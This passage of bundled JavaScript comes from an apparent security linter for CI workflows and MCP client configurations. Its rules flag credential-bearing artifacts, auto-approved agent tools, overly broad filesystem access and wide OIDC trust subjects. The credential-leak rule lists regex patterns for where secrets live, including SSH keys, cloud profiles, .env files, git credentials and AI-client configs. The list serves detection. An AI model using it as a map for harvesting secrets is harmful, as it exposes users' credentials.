__webpack_require__.d(__webpack_exports__, {
  rules: () => (/* binding */ rules)
});

// EXTERNAL MODULE: ./build/shared/lint/pipelines/action-reference.js
var action_reference = __webpack_require__(74320);
// EXTERNAL MODULE: ./build/shared/lint/pipelines/inputs.js
var inputs = __webpack_require__(42887);
;// CONCATENATED MODULE: ./build/shared/lint/pipelines/artifacts.js


/** What a step uploads or caches; undefined when it does neither. */
function uploadOf(step) {
    switch (step.uses?.name) {
        case 'actions/upload-artifact': {
            // Hidden files are left out since 4.4 (its release notes).
            const hidden = (0,inputs/* inputOf */.w)(step, 'include-hidden-files') !== undefined &&
                (0,inputs/* flagOf */.i)(step, 'include-hidden-files') !== false;
            return paths('artifact', (0,inputs/* inputOf */.w)(step, 'path'), !hidden && !takesHidden(step.uses));
        }
        case 'actions/upload-pages-artifact':
            return paths('artifact', (0,inputs/* inputOf */.w)(step, 'path'), true);
        case 'actions/cache':
            return paths('cache', (0,inputs/* inputOf */.w)(step, 'path'), false);
        case 'publishpipelineartifact':
            return paths('artifact', (0,inputs/* inputOf */.w)(step, 'targetPath', 'path', 'publish'), false);
        case 'publishbuildartifacts':
            return paths('artifact', (0,inputs/* inputOf */.w)(step, 'PathtoPublish'), false);
        case 'cache':
            return step.uses.kind === 'task' ? paths('cache', (0,inputs/* inputOf */.w)(step, 'path'), false) : undefined;
        default:
            return undefined;
    }
}
/** True for a version before 4.4, as far as the reference or its comment tells. */
function takesHidden(uses) {
    const major = (0,action_reference/* majorVersion */.iR)(uses);
    if (major !== 4)
        return major !== undefined && major < 4;
    const minor = /^v?4\.(\d+)/.exec(((0,action_reference/* isCommit */.WM)(uses.ref) ? uses.comment : uses.ref) ?? '')?.[1];
    return minor !== undefined && Number(minor) < 4;
}
function paths(kind, value, skipsHidden) {
    if (!value)
        return undefined;
    const found = [];
    const exclusions = [];
    for (const match of value.text.matchAll(/[^\r\n]+/g)) {
        const line = match[0].trim();
        const start = match.index + match[0].indexOf(line);
        if (line.startsWith('!'))
            exclusions.push(line.slice(1));
        else if (line !== '' && !line.startsWith('#'))
            found.push(value.slice(start, start + line.length));
    }
    return { kind, paths: found, exclusions, skipsHidden };
}
const workspace = /^(?:\.{1,2}\/?|\.\/\*\*(?:\/\*)?|\*\*(?:\/\*)?|\$\{\{\s*github\.workspace\s*\}\}\/?|\$\((?:system\.defaultworkingdirectory|build\.sourcesdirectory|build\.repository\.localpath)\)\/?)$/i;
/** True for a path that is the work tree as a whole. */
function isWorkspace(path) {
    return workspace.test(path.trim().replace(/^["']|["']$/g, ''));
}
/** True when a step uploads the work tree with its `.git` folder. */
function uploadsWorkspace(step) {
    const upload = uploadOf(step);
    if (upload?.kind !== 'artifact' || upload.skipsHidden)
        return false;
    if (upload.exclusions.some(path => /\.git\b/.test(path)))
        return false;
    return upload.paths.some(path => isWorkspace(path.text));
}
//# sourceMappingURL=artifacts.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/artifact-leaks-credentials.js



/** Files with credentials that are kept beyond the job. */
const artifactLeaksCredentials = {
    meta: {
        id: 'artifact-leaks-credentials',
        summary: 'Artifact or cache that holds credentials',
        severity: 'error',
        why: 'Whoever can read a repository can download the artifacts of its runs, and a cache can be read by the workflows of every pull request. Profiles of clouds, registries and package managers, `.env` files, MCP configurations and the `.git` folder of a checkout hold the credentials that the job worked with. A token of a run was taken from an artifact in seconds, while the run was still going.',
        fix: 'Name the files that are meant: `path: dist/`. Leave dot files out (`include-hidden-files` is off since `upload-artifact` 4.4), and check out with `persist-credentials: false`.',
        securitySeverity: 8,
        references: [
            'https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/',
            'https://github.com/actions/upload-artifact#uploading-hidden-files'
        ],
        bad: {
            file: '.github/workflows/build.yml',
            text: `on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
        with:
          path: |
            dist
            .env
          include-hidden-files: true
`
        },
        good: {
            file: '.github/workflows/build.yml',
            text: `on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
        with:
          path: dist
`
        }
    },
    check({ pipeline }, report) {
        for (const job of pipeline?.jobs ?? []) {
            for (const step of job.steps) {
                const upload = uploadOf(step);
                if (!upload)
                    continue;
                for (const path of upload.paths) {
                    const hidden = /(?:^|[\\/])\.[^./\\]/.test(path.text);
                    if (hidden && upload.skipsHidden)
                        continue;
                    const what = credentialsIn(path.text);
                    const whole = !what &&
                        upload.kind === 'artifact' &&
                        isWorkspace(path.text) &&
                        !upload.skipsHidden &&
                        !upload.exclusions.some(exclusion => /\.git\b/.test(exclusion)) &&
                        leavesToken(job, step);
                    if (!what && !whole)
                        continue;
                    report({
                        range: path.range(),
                        message: whole
                            ? `the ${upload.kind} holds the work tree with .git, where the checkout left its token`
                            : `the ${upload.kind} holds ${what}`,
                        help: whole
                            ? 'Name the files that are meant, or check out without leaving the token.'
                            : 'Leave it out of the path.',
                        subject: `${job.id} ${path.text.trim()}`
                    });
                }
            }
        }
    }
};
/** Paths that hold credentials by what they are for. */
const credentialPaths = [
    [/(?:^|[\\/])\.azure(?:[\\/]|$)/i, 'the Azure CLI profile with its tokens'],
    [/(?:^|[\\/])\.aws(?:[\\/](?:credentials|cli|sso)\b.*)?[\\/]?$/i, 'AWS credentials'],
    [
        /(?:^|[\\/])\.config[\\/]gcloud(?:[\\/]|$)|application_default_credentials\.json$/i,
        'Google Cloud credentials'
    ],
    [/(?:^|[\\/])\.docker(?:[\\/](?:config\.json)?)?$/i, "Docker's registry logins"],
    [
        /(?:^|[\\/])\.kube(?:[\\/]config)?[\\/]?$|(?:^|[\\/])kubeconfig(?:\.ya?ml)?$/i,
        'a Kubernetes configuration'
    ],
    [/(?:^|[\\/])\.ssh(?:[\\/]|$)|(?:^|[\\/])id_(?:rsa|ed25519|ecdsa)$/i, 'SSH keys'],
    [/(?:^|[\\/])\.git(?:[\\/](?:config)?)?$/i, 'the .git folder, where a checkout leaves its token'],
    [/(?:^|[\\/])\.git-credentials$|(?:^|[\\/])[._]netrc$/i, 'logins of git'],
    [
        /(?:^|[\\/])\.npmrc$|(?:^|[\\/])\.pypirc$|(?:^|[\\/])\.yarnrc\.yml$/i,
        'the login of a package registry'
    ],
    [
        /(?:^|[\\/])\.env(?:\.(?:local|production|development|staging|test|ci))?$/i,
        'an environment file'
    ],
    [
        /(?:^|[\\/])(?:\.mcp|mcp|claude_desktop_config)\.json$|(?:^|[\\/])\.claude\.json$|(?:^|[\\/])\.claude(?:[\\/]?|[\\/]\.credentials\.json)$|(?:^|[\\/])\.codex[\\/]?(?:auth\.json)?$/i,
        'the configuration of an MCP client with its credentials'
    ],
    [
        /(?:^|[\\/])\.terraform\.d[\\/]credentials\.tfrc\.json$|(?:^|[\\/])\.terraformrc$/i,
        'Terraform credentials'
    ],
    [/\.tfstate$/i, 'a Terraform state, which holds every secret it manages']
];
function credentialsIn(path) {
    const plain = path.trim().replace(/^["']|["']$/g, '');
    return credentialPaths.find(([pattern]) => pattern.test(plain))?.[1];
}
/** True when an earlier checkout left its token in the work tree. */
function leavesToken(job, upload) {
    return job.steps.slice(0, job.steps.indexOf(upload)).some(step => {
        if (step.checkout)
            return (0,inputs/* flagOf */.i)(step, 'persistCredentials') === true;
        if (step.uses?.name !== 'actions/checkout')
            return false;
        const setting = (0,inputs/* inputOf */.w)(step, 'persist-credentials');
        const version = (0,action_reference/* majorVersion */.iR)(step.uses);
        if (version !== undefined && version >= 6)
            return false;
        return !setting || setting.text.trim().toLowerCase() === 'true';
    });
}
//# sourceMappingURL=artifact-leaks-credentials.js.map
// EXTERNAL MODULE: ./build/shared/lint/credentials/index.js + 9 modules
var credentials = __webpack_require__(94520);
// EXTERNAL MODULE: ./build/shared/lint/server-label.js
var server_label = __webpack_require__(95942);
;// CONCATENATED MODULE: ./build/shared/lint/rules/auto-approved-tools.js


/** Tools that the client calls without asking, or servers that it starts without asking. */
const autoApprovedTools = {
    meta: {
        id: 'auto-approved-tools',
        summary: 'MCP tools are called without asking',
        severity: 'warning',
        why: 'The question before a tool is called is the last point at which a person can see that a page or an issue has talked the model into something. A wildcard answers it for every tool of the server, those included that a later version adds. `enableAllProjectMcpServers` does so for every server that anyone puts into the project.',
        fix: 'List the tools that only read, by name, and let the client ask for the others. A list of reading tools is only noted.',
        securitySeverity: 5.5,
        references: [
            'https://modelcontextprotocol.io/specification/2025-06-18/server/tools',
            'https://genai.owasp.org/llmrisk/llm062025-excessive-agency/'
        ],
        bad: {
            file: '.roo/mcp.json',
            text: '{\n  "mcpServers": {\n    "tracker": {"command": "npx", "args": ["-y", "tracker-mcp@1.2.3"], "alwaysAllow": ["*"]}\n  }\n}\n'
        },
        good: {
            file: '.roo/mcp.json',
            text: '{\n  "mcpServers": {\n    "tracker": {"command": "npx", "args": ["-y", "tracker-mcp@1.2.3"], "alwaysAllow": []}\n  }\n}\n'
        }
    },
    check(facts, report) {
        for (const server of facts.mcpServers) {
            for (const approval of server.approvals) {
                const problem = problemOf(approval, (0,server_label/* serverLabel */.K)(server));
                report({ ...problem, subject: `${server.name} ${approval.key.text}` });
            }
        }
        for (const config of facts.mcpConfigs) {
            for (const approval of config.approvals) {
                report({
                    range: approval.range,
                    message: `${approval.key.text} approves every server and tool of the project without asking`,
                    help: 'Remove it, and approve the servers by name.',
                    subject: approval.key.text
                });
            }
        }
        for (const { name, value } of facts.credentialSites) {
            if (!/^(?:CLAUDE_CODE_AUTO_APPROVE_MCP|ENABLE_ALL_PROJECT_MCP_SERVERS)$/i.test(name ?? ''))
                continue;
            if (!/^(?:1|true|yes)$/i.test(value.text))
                continue;
            report({
                range: value.range(),
                message: `${name} approves every MCP server of the checkout without asking`,
                help: 'Remove it, and approve the servers by name.',
                subject: name
            });
        }
    }
};
function problemOf(approval, server) {
    if (approval.all) {
        return {
            range: approval.range,
            message: `every tool of ${server} is called without asking (${approval.key.text})`,
            help: 'List the tools that only read, by name.'
        };
    }
    const writing = approval.tools.filter(tool => writes(tool.text));
    const [first] = writing;
    if (first) {
        const names = writing.slice(0, 5).map(tool => (0,credentials/* shownName */.HD)(tool.text));
        return {
            range: first.range(),
            message: `tools of ${server} that change something are called without asking: ${names.join(', ')}${writing.length > 5 ? `, and ${writing.length - 5} more` : ''}`,
            help: 'Let the client ask before it calls them.'
        };
    }
    return {
        range: approval.key.range(),
        severity: 'note',
        message: `${approval.tools.length === 1 ? 'one tool' : `${approval.tools.length} tools`} of ${server} ${approval.tools.length === 1 ? 'is' : 'are'} called without asking`,
        help: 'Check that they only read.'
    };
}
const writing = new Set(`write create update delete remove edit move push merge execute exec run shell command terminal bash
  send post put insert drop set deploy publish kill terminate upload approve fork commit rename patch
  modify apply start stop restart install uninstall replace append assign close reopen transition
  submit trigger cancel click type fill press drag evaluate navigate truncate alter grant revoke save
  reset rebase checkout invite pay transfer purchase order enable disable import process`.split(/\s+/));
const reading = new Set('get list read search find fetch query describe show view count lookup browse check inspect resolve status explain download'.split(' '));
/** By the verb of the tool's name: the first word that is one decides. */
function writes(tool) {
    for (const word of (0,credentials/* wordsOf */.Z9)(tool)) {
        if (reading.has(word))
            return false;
        if (writing.has(word))
            return true;
    }
    return false;
}
//# sourceMappingURL=auto-approved-tools.js.map
// EXTERNAL MODULE: ./build/shared/lint/filesystem-access.js
var filesystem_access = __webpack_require__(31968);
;// CONCATENATED MODULE: ./build/shared/lint/rules/broad-filesystem.js


/** A server that may read a home, or what lies around the workspace. */
const broadFilesystem = {
    meta: {
        id: 'broad-filesystem',
        summary: 'MCP server has access to a home folder or a parent of the workspace',
        severity: 'warning',
        why: 'A home folder holds SSH keys, cloud profiles, browser data and the tokens of every other tool; a parent of the workspace holds the other repositories. A server that works on one project needs neither.',
        fix: 'Name the folder of the project: `.`, `${workspaceFolder}` or a path inside it. A folder that servers are meant to have can be named in `filesystem-roots` of the configuration.',
        securitySeverity: 6.5,
        references: ['https://modelcontextprotocol.io/specification/2025-06-18/client/roots'],
        bad: {
            file: '.cursor/mcp.json',
            text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "${userHome}"]\n    }\n  }\n}\n'
        },
        good: {
            file: '.cursor/mcp.json',
            text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "${workspaceFolder}"]\n    }\n  }\n}\n'
        }
    },
    check(facts, report, config) {
        for (const server of facts.mcpServers) {
            for (const access of (0,filesystem_access/* filesystemAccess */.m)(server, config)) {
                if (access.breadth !== 'broad')
                    continue;
                report({
                    range: access.range,
                    message: `${(0,server_label/* serverLabel */.K)(server)} may use all of '${access.path}', a home folder or a parent of the workspace`,
                    help: 'Name the one folder it needs, such as ${workspaceFolder} or a path inside the workspace.',
                    subject: `${server.name} ${access.path}`
                });
            }
        }
    }
};
//# sourceMappingURL=broad-filesystem.js.map
;// CONCATENATED MODULE: ./build/shared/lint/federation/issuers.js
const hosts = [
    [/token\.actions\.githubusercontent\.com|\/_services\/token/i, 'github'],
    [/(?:^|\/\/|\.)gitlab\b/i, 'gitlab'],
    [/app\.terraform\.io|app\.eu\.terraform\.io/i, 'terraform'],
    [/vstoken\.dev\.azure\.com/i, 'azure-devops'],
    [/oic\.prod-aks\.azure\.com|oidc\.eks\.|container\.googleapis\.com/i, 'kubernetes'],
    [/oidc\.circleci\.com/i, 'circleci']
];
const subjects = [
    [/^(?:repo|repository|repository_id|repository_owner|repository_owner_id):/, 'github'],
    [/^project_path:/, 'gitlab'],
    [/^organization:/, 'terraform'],
    [/^system:serviceaccount:/, 'kubernetes'],
    [/^(?:sc:\/\/|\/eid1\/)/, 'azure-devops']
];
/** GitHub's issuer, also that of an enterprise with its own path and of GitHub Enterprise Server. */
const githubIssuer = 'https://token.actions.githubusercontent.com';
/** The kind of issuer, by its address; by the form of the subject where that is unknown. */
function issuerKind(subject) {
    const address = subject.issuer?.text.text;
    if (address !== undefined) {
        for (const [pattern, kind] of hosts)
            if (pattern.test(address))
                return kind;
    }
    for (const test of subject.tests) {
        if (test.claim === 'job_workflow_ref' || test.claim.startsWith('repository'))
            return 'github';
        if (test.claim === 'project_path' || test.claim === 'namespace_path')
            return 'gitlab';
        if (test.claim.startsWith('terraform_'))
            return 'terraform';
        if (test.claim !== 'sub')
            continue;
        for (const value of test.values) {
            for (const [pattern, kind] of subjects)
                if (pattern.test(value.text.text))
                    return kind;
        }
    }
    return 'other';
}
/** True when the whole text is written in the file. */
function isKnown(text) {
    return text !== undefined && text.holes.length === 0;
}
//# sourceMappingURL=issuers.js.map
;// CONCATENATED MODULE: ./build/shared/lint/federation/admission.js

/** Stands for an unknown stretch in texts that are analysed: neither a wildcard nor a separator. */
const hole = '\ue000';
/** The text with each unknown stretch as one character, and how to show a part of it. */
function analysed({ text, holes }) {
    let result = '';
    let position = 0;
    const names = [];
    for (const { start, end } of holes) {
        result += text.text.slice(position, start) + hole;
        names.push(text.text.slice(start, end));
        position = end;
    }
    result += text.text.slice(position);
    const show = (part) => {
        const before = result.slice(0, Math.max(0, result.indexOf(part))).split(hole).length - 1;
        let index = before;
        return part.replaceAll(hole, () => names[index++] ?? '…');
    };
    return { text: result, show };
}
/**
 * What a trust lets in beyond one branch or environment of one repository: one entry for each value
 * that leaves something open. Empty when it is narrow, and when what it asks cannot be known.
 */
function admissionsOf(subject) {
    const kind = issuerKind(subject);
    const narrowing = new Narrowing(subject.tests);
    const subjects = subject.tests.filter(test => test.claim === 'sub');
    if (subjects.length === 0)
        return withoutSubject(subject, kind, narrowing);
    // All tests on the subject must hold: the narrowest decides.
    const each = subjects.map(test => test.values.flatMap(value => admissionOf(value, test, kind, narrowing)));
    return each.reduce((narrowest, current) => widest(current) < widest(narrowest) ? current : narrowest);
}
const order = [
    'narrow-pattern',
    'pull-request',
    'environment-prefix',
    'tag-prefix',
    'branch-prefix',
    'environments',
    'tags',
    'branches',
    'repository',
    'repository-prefix',
    'owner',
    'owner-prefix',
    'anyone'
];
function widest(admissions) {
    return Math.max(-1, ...admissions.map(({ opening }) => order.indexOf(opening)));
}
/** Tests of other claims than the subject, which may narrow what a wide subject leaves open. */
class Narrowing {
    tests;
    constructor(tests) {
        this.tests = tests.filter(test => !test.optional);
    }
    get owner() {
        return this.exact('repository_owner_id', 'repository_owner', 'namespace_id', 'namespace_path');
    }
    get repository() {
        return this.exact('repository_id', 'repository', 'project_id', 'project_path', 'terraform_workspace_id');
    }
    /** Branch, tag or environment. */
    get context() {
        return this.exact('environment', 'ref', 'terraform_run_phase');
    }
    get workflow() {
        return this.tests.find(test => test.claim === 'job_workflow_ref' || test.claim === 'workflow_ref');
    }
    /** A workflow that is fixed with its ref: what runs is what that ref holds. */
    get pinnedWorkflow() {
        const test = this.workflow;
        return test?.values.every(value => isPinnedWorkflow(value, test.comparison)) ?? false;
    }
    /** Claims that no subject rule knows, such as `actor` or `enterprise`. */
    get other() {
        return this.exact('enterprise', 'enterprise_id', 'actor', 'actor_id', 'azp', 'oid', 'appid');
    }
    exact(...claims) {
        return this.tests.some(test => claims.includes(test.claim) &&
            test.values.length > 0 &&
            test.values.every(value => test.comparison === 'exact' || !hasWildcard(value, test)));
    }
}
function hasWildcard(value, test) {
    return test.comparison === 'prefix' || /[*?]/.test(analysed(value).text);
}
/** `acme/flows/.github/workflows/deploy.yml@refs/heads/main`, also of tags and commits. */
function isPinnedWorkflow(value, comparison) {
    const { text } = analysed(value);
    if (comparison === 'prefix')
        return false;
    if (comparison === 'pattern' && /[*?]/.test(text))
        return false;
    return text.includes('@') || text.includes(hole);
}
/** Claims of GitHub that have the same values in repositories of any owner. */
const unboundClaims = new Set([
    'iss',
    'ref',
    'ref_type',
    'ref_protected',
    'base_ref',
    'head_ref',
    'environment',
    'event_name',
    'workflow',
    'repository_visibility',
    'runner_environment'
]);
function withoutSubject({ tests, partial, provider }, kind, narrowing) {
    if (partial)
        return [];
    const relevant = tests.filter(test => test.claim !== 'aud');
    const workflow = narrowing.workflow;
    if (workflow) {
        if (narrowing.owner || narrowing.repository)
            return [];
        const value = workflow.values[0];
        const name = value ? `'${analysed(value).show(analysed(value).text)}'` : 'the workflow';
        const who = narrowing.pinnedWorkflow
            ? `any repository that calls the workflow ${name}`
            : `any repository that calls a workflow that fits ${name}, on any ref of it`;
        return [{ opening: 'anyone', who, ...(value && { value }), test: workflow }];
    }
    if (narrowing.repository || narrowing.other)
        return [];
    if (narrowing.owner) {
        const test = tests.find(({ claim }) => /^(?:repository_owner|namespace)/.test(claim));
        const value = test.values[0];
        const name = value ? analysed(value).show(analysed(value).text) : 'one owner';
        const owner = test.claim.endsWith('_id') ? `the owner with the number ${name}` : name;
        const who = `any workflow of any repository of ${owner}`;
        return [{ opening: 'owner', who, ...(value && { value }), test }];
    }
    const bindsNothing = ({ claim }) => kind === 'github' && unboundClaims.has(claim);
    const unread = relevant.some(test => !bindsNothing(test) && test.values.some(value => value.holes.length > 0));
    if (unread)
        return [];
    const open = relevant[0];
    const wide = relevant.flatMap(test => test.values.flatMap(value => otherClaim(value, test) ?? []));
    if (wide[0])
        return wide;
    if (!relevant.every(test => test.optional || bindsNothing(test)))
        return [];
    // Issuers whose subjects are not known here may bind by other means, such as the audience.
    if (kind === 'other')
        return [];
    const value = open?.values[0];
    return [
        {
            opening: 'anyone',
            who: `${anyoneAt(kind, provider)}${open && bindsNothing(open) ? `: ${open.claim} names none` : ''}`,
            ...(value && { value }),
            ...(open && { test: open })
        }
    ];
}
/** `repository` or `repository_owner` with a wildcard or by its beginning. */
function otherClaim(value, test) {
    const { text, show } = analysed(value);
    const star = test.comparison === 'pattern' ? text.search(/[*?]/) : -1;
    if (test.comparison === 'exact' || (test.comparison === 'pattern' && star < 0))
        return undefined;
    const begin = star < 0 ? text : text.slice(0, star);
    switch (test.claim) {
        case 'repository': {
            const slash = begin.indexOf('/');
            if (slash < 0) {
                const opening = begin === '' ? 'anyone' : 'owner-prefix';
                const who = `any workflow of any repository${begin && ` whose owner's name begins with '${show(begin)}'`}`;
                return { opening, who, value, test };
            }
            const rest = begin.slice(slash + 1);
            const owner = show(begin.slice(0, slash));
            return rest === ''
                ? { opening: 'owner', who: `any workflow of any repository of ${owner}`, value, test }
                : {
                    opening: 'repository-prefix',
                    who: `any workflow of any repository of ${owner} whose name begins with '${show(rest)}'`,
                    value,
                    test
                };
        }
        case 'repository_owner':
            return {
                opening: begin === '' ? 'anyone' : 'owner-prefix',
                who: `any repository of any owner${begin && ` whose name begins with '${show(begin)}'`}`,
                value,
                test
            };
        default:
            return undefined;
    }
}
function anyoneAt(kind, provider) {
    switch (kind) {
        case 'github':
            return 'any workflow of any repository on GitHub, whoever owns it';
        case 'gitlab':
            return 'any job of any project on the GitLab instance';
        case 'terraform':
            return 'any run of any organization in HCP Terraform';
        case 'azure-devops':
            return 'any service connection of the Azure DevOps organization';
        case 'kubernetes':
            return 'any service account of the cluster';
        case 'circleci':
            return 'any job of the CircleCI organization';
        case 'other':
            return provider === 'gcp' ? 'any identity of the issuer' : 'any token of the issuer';
    }
}
function admissionOf(value, test, kind, narrowing) {
    const { text, show } = analysed(value);
    const comparison = test.comparison;
    const scope = scopeOf(comparison === 'prefix' ? `${text}*` : text, comparison !== 'exact', kind);
    if (scope.unknown)
        return [];
    const found = describe(scope, kind, show, narrowing);
    return found ? [{ ...found, value, test }] : [];
}
/** Takes a subject apart. `wild`: whether `*` and `?` are wildcards. */
function scopeOf(text, wild, kind) {
    switch (kind) {
        case 'github':
            return githubScope(text, wild);
        case 'gitlab':
            return pairsScope(text, wild, {
                owner: '',
                repository: 'project_path',
                context: ['ref_type', 'ref']
            });
        case 'terraform':
            return pairsScope(text, wild, {
                owner: 'organization',
                repository: 'workspace',
                context: ['run_phase']
            });
        case 'kubernetes':
            return kubernetesScope(text, wild);
        case 'azure-devops':
            return azureScope(text, wild);
        default:
            return starScope(text, wild);
    }
}
/** A subject of unknown form: only a bare star says something. */
function starScope(text, wild) {
    return wild && text.includes('*') && /^[*?]+$/.test(text) ? {} : { unknown: true };
}
function part(text, wild) {
    const star = wild ? text.search(/[*?]/) : -1;
    if (star < 0)
        return { text, prefix: false };
    return star === 0 ? undefined : { text: text.slice(0, star), prefix: true };
}
const contexts = [
    ['ref:refs/heads/', 'branch'],
    ['ref:refs/tags/', 'tag'],
    ['environment:', 'environment'],
    ['pull_request', 'pull-request']
];
/**
 * GitHub: `repo:OWNER/REPO:CONTEXT`, with immutable ids `repo:OWNER@ID/REPO@ID:CONTEXT`.
 * Source: GitHub docs, OpenID Connect reference, "Example subject claims".
 */
function githubScope(text, wild) {
    const star = wild ? text.search(/[*?]/) : -1;
    const custom = /^(repository_id|repository_owner_id|repository|repository_owner|project_path):/.exec(text);
    if (custom && !(star >= 0 && star < custom[0].length))
        return customScope(text, wild);
    if (!text.startsWith('repo:')) {
        if (star < 0)
            return unboundScope(text);
        const begin = text.slice(0, star);
        if (!'repo:'.startsWith(begin))
            return unboundScope(text);
        // `*`, `re*`, `*:ref:refs/heads/main`: the repository is not bound.
        const workflow = /job_workflow_ref:[^*?]+/.exec(text);
        return workflow ? { context: { kind: 'other', name: workflow[0], open: 'none' } } : {};
    }
    const rest = text.slice('repo:'.length);
    // A variable that holds owner and repository: `repo:${var.repository}:…`.
    const whole = /^([^/:*?]*\ue000[^/:*?]*):(.*)$/s.exec(rest);
    if (whole) {
        const repository = { text: whole[1], prefix: false };
        return { owner: repository, repository, ...contextPart(whole[2], wild) };
    }
    const slash = rest.indexOf('/');
    // What the variable holds beside the owner's name is not known.
    if (slash < 0 && rest.includes(hole))
        return { unknown: true };
    const owner = slash < 0 ? rest : rest.slice(0, slash);
    const ownerPart = withId(owner, wild);
    if (!ownerPart)
        return {};
    if (ownerPart.prefix)
        return { owner: ownerPart };
    if (slash < 0)
        return wild && /[*?]/.test(rest) ? {} : { unknown: true };
    const after = rest.slice(slash + 1);
    const colon = after.indexOf(':');
    const name = colon < 0 ? after : after.slice(0, colon);
    const repository = withId(name, wild);
    const swallows = wild && colon < 0 && name.includes('*');
    if (!repository)
        return { owner: ownerPart, ...contextPart(colon < 0 ? undefined : after.slice(colon + 1), wild) };
    if (colon < 0 && !swallows)
        return { unknown: true };
    return {
        owner: ownerPart,
        repository,
        ...contextPart(swallows ? undefined : after.slice(colon + 1), wild)
    };
}
/** `acme@*`: the name is fixed, only the number is open. */
function withId(text, wild) {
    const id = wild ? /^([^*?]+)@[*?]+$/.exec(text) : null;
    return id ? { text: id[1], prefix: false } : part(text, wild);
}
function contextPart(text, wild) {
    const context = text === undefined ? undefined : githubContext(text, wild);
    return context ? { context } : {};
}
function githubContext(text, wild) {
    const star = wild ? text.search(/[*?]/) : -1;
    const begin = star < 0 ? text : text.slice(0, star);
    if (star === 0) {
        // Names of branches and environments hold no colon: what a later key fixes is fixed.
        const fixed = contexts.find(([key]) => text.slice(1).includes(key));
        if (!fixed)
            return undefined;
        return githubContext(text.slice(text.indexOf(fixed[0])), wild);
    }
    const known = contexts.find(([key]) => begin.startsWith(key));
    if (known) {
        const name = begin.slice(known[0].length);
        const open = star < 0 ? 'none' : name === '' ? 'all' : 'prefix';
        return {
            kind: known[1],
            name: name.replace(/:.*$/s, ''),
            open: name.includes(':') && open === 'prefix' ? 'none' : open
        };
    }
    if (star < 0)
        return { kind: 'other', name: text, open: 'none' };
    const possible = contexts.filter(([key]) => key.startsWith(begin));
    if (possible.length === 0)
        return { kind: 'other', name: begin, open: 'prefix' };
    if (possible.every(([key]) => key.startsWith('ref:')))
        return { kind: 'ref', name: '', open: 'all' };
    if (possible.length === 1)
        return { kind: possible[0][1], name: '', open: 'all' };
    return undefined;
}
/** A customised subject whose first claim does not name the repository. */
function unboundScope(text) {
    return /^(?:workflow|ref|environment|context|head_ref|base_ref|actor|event_name|runner_environment):/.test(text)
        ? { context: { kind: 'other', name: text, open: 'none' } }
        : { unknown: true };
}
/** `repository_id:1:environment:x`, `repository_owner:acme:…` of customised subjects. */
function customScope(text, wild) {
    const [, key = '', value = '', rest] = /^([a-z_]+):([^:]*)(?::(.*))?$/s.exec(text) ?? [];
    const named = part(value, wild);
    const { context } = contextPart(rest, wild);
    if (key.startsWith('repository_owner')) {
        const nested = rest && /^(?:repository|repository_id|repo):/.test(rest);
        if (nested)
            return { unknown: true };
        return { ...(named && { owner: named }), ...(context && { context }) };
    }
    if (!named)
        return { ...(context && { context }) };
    const swallows = wild && rest === undefined && value.includes('*');
    if (rest === undefined && !swallows)
        return {
            owner: { text: value, prefix: false },
            repository: { text: value, prefix: false },
            context: { kind: 'other', name: '', open: 'none' }
        };
    const slash = value.indexOf('/');
    if (key === 'repository' && slash >= 0)
        return githubScope(`repo:${text.slice(key.length + 1)}`, wild);
    return { owner: { text: '', prefix: false }, repository: named, ...(context && { context }) };
}
/**
 * Subjects of `key:value` pairs. GitLab: `project_path:group/project:ref_type:branch:ref:main`
 * (GitLab docs, "ID token authentication"); HCP Terraform:
 * `organization:O:project:P:workspace:W:run_phase:apply` (HashiCorp, "Workload identity tokens").
 */
function pairsScope(text, wild, keys) {
    const pieces = text.split(':');
    const value = (key) => {
        const index = pieces.findIndex((piece, position) => position % 2 === 0 && piece === key);
        return index < 0 ? undefined : pieces[index + 1];
    };
    const first = pieces[0] ?? '';
    const star = wild ? text.search(/[*?]/) : -1;
    if (star >= 0 && star <= first.length) {
        return (keys.owner || keys.repository).startsWith(first.slice(0, star)) ? {} : { unknown: true };
    }
    const repositoryText = value(keys.repository);
    const ownerText = keys.owner ? value(keys.owner) : repositoryText?.split('/')[0];
    if (ownerText === undefined)
        return star < 0 ? { unknown: true } : {};
    const owner = part(ownerText, wild);
    if (!owner || owner.prefix)
        return owner ? { owner } : {};
    const name = keys.owner ? repositoryText : repositoryText?.slice(ownerText.length + 1);
    const repository = name === undefined ? undefined : part(name, wild);
    if (!repository)
        return star < 0 ? { unknown: true } : { owner };
    const last = keys.context.at(-1);
    const type = keys.context.length > 1 ? value(keys.context[0]) : undefined;
    const contextText = value(last);
    if (contextText === undefined) {
        if (star < 0)
            return { owner, repository, context: { kind: 'other', name: '', open: 'none' } };
        return { owner, repository };
    }
    const context = part(contextText, wild);
    const contextKind = type === 'tag' ? 'tag' : last === 'run_phase' ? 'other' : 'branch';
    if (type !== undefined && wild && /[*?]/.test(type) && !context)
        return { owner, repository };
    return {
        owner,
        repository,
        context: {
            // Both phases of a run are the same workspace.
            kind: contextKind,
            name: context?.text ?? '',
            open: last === 'run_phase' ? 'none' : !context ? 'all' : context.prefix ? 'prefix' : 'none'
        }
    };
}
/** Kubernetes: `system:serviceaccount:NAMESPACE:NAME`. */
function kubernetesScope(text, wild) {
    const begin = 'system:serviceaccount:';
    const star = wild ? text.search(/[*?]/) : -1;
    if (!text.startsWith(begin)) {
        return star >= 0 && begin.startsWith(text.slice(0, star)) ? {} : { unknown: true };
    }
    const [namespace = '', name] = text.slice(begin.length).split(':');
    const owner = part(namespace, wild);
    if (!owner || owner.prefix || name === undefined)
        return owner ? { owner } : {};
    const repository = part(name, wild);
    return repository
        ? { owner, repository, context: { kind: 'other', name: '', open: 'none' } }
        : { owner };
}
/** Azure DevOps: `sc://ORGANIZATION/PROJECT/CONNECTION`. */
function azureScope(text, wild) {
    const star = wild ? text.search(/[*?]/) : -1;
    if (star < 0)
        return { unknown: true };
    const match = /^sc:\/\/([^/*?]+)\/(?:([^/*?]+)\/)?/.exec(text);
    if (!match)
